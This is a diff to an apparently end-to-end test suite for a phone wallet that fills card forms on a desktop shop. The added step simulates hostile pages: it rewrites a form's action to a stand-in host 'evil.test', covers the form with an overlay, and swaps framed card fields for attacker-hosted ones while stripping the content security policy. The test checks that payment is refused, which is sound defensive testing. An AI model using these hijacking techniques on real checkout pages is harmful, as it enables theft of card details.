@@ -6,14 +6,58 @@ import { sandboxCard, Wallet } from '../pages/wallet.ts';
 /** A card that is kept on the phone pays a card form on the desktop. */
 
 test('a card is added, and pays a plain form, one in frames and one of React’s, by one touch each; another finger pays nothing', async ({ phone, desktop }) => {
-  test.setTimeout(120_000);
+  test.setTimeout(180_000);
   await phone.signUp();
   await pair(desktop, phone);
   const wallet = new Wallet(phone.app);
   await wallet.begin(sandboxCard);
-  const checkout = new ChromiumCheckout(desktop, await desktop.shop());
+  const shop = await desktop.shop();
+  const checkout = new ChromiumCheckout(desktop, shop);
 
   for (const form of ['plain', 'framed', 'react'] as const) await test.step(form, () => payByCard(phone, checkout, form));
+
+  await test.step('what a hostile page brings about is refused, with the reason on both sides', async () => {
+    const { page } = shop;
+    const refused = async (phoneSays: string, desktopSays: string): Promise<void> => {
+      await wallet.pay('737');
+      await expect(phone.app.page.getByText(phoneSays)).toBeVisible();
+      await checkout.says(desktopSays);
+      expect(await checkout.held()).toEqual(['', '', '', '']);
+      await phone.app.press('Back to the payment');
+      await phone.app.decline();
+      await expect(phone.app.outcome).toBeVisible();
+    };
+    const begin = async (form: 'plain' | 'framed'): Promise<void> => {
+      await phone.app.page.goto(new URL('/', phone.app.page.url()).href);
+      await openPayPage(phone, checkout, form);
+    };
+
+    await begin('plain');
+    await page.evaluate(() => document.querySelector<HTMLFormElement>('form[action="/checkout/card"]')?.setAttribute('action', 'https://evil.test/take'));
+    await refused('The form changed after you began', 'The card form changed after you asked.');
+
+    await begin('plain');
+    await page.evaluate(() => {
+      const cover = document.body.appendChild(document.createElement('p'));
+      cover.textContent = 'Win a prize';
+      Object.assign(cover.style, { position: 'fixed', inset: '0', zIndex: '9', margin: '0', background: 'white' });
+    });
+    await refused('The card form cannot be seen on the page', 'The card form is not visible');
+
+    await page.route('**/checkout/card?form=framed', async (route) => {
+      const response = await route.fetch();
+      const body = (await response.text()).replaceAll(/src="[^"]*\/fields\//g, 'src="https://evil.test/');
+      const { 'content-security-policy': _, ...headers } = response.headers();
+      await route.fulfill({ status: 200, headers, body });
+    });
+    await page.route('https://evil.test/**', (route) => {
+      const [label, token] = { number: ['Card number', 'cc-number'], expiry: ['Expiry date', 'cc-exp'] }[new URL(route.request().url()).pathname.slice(1)] ?? ['Security code', 'cc-csc'];
+      return route.fulfill({ contentType: 'text/html', body: `<!doctype html><input aria-label="${label}" autocomplete="${token}">` });
+    });
+    await begin('framed');
+    await refused('The card form belongs to a provider that is not known here', 'The card form belongs to someone we do not know.');
+    await page.unrouteAll();
+  });
 
   await test.step('another finger on the sensor approves nothing, and nothing is filled in', async () => {
     await phone.app.page.goto(new URL('/', phone.app.page.url()).href);
